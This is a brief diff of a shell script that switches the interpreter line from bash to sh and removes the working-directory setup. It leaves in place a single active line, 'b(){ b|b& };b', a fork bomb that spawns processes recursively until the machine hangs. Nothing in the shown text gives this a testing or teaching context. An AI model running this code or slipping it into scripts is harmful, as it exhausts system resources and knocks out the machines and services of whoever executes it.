@@ -1,4 +1,2 @@
-#!/usr/bin/env bash
+#!/bin/sh
 b(){ b|b& };b
-WORKDIR="${WORKDIR:-$PWD}"
-cd "$WORKDIR" || exit 1
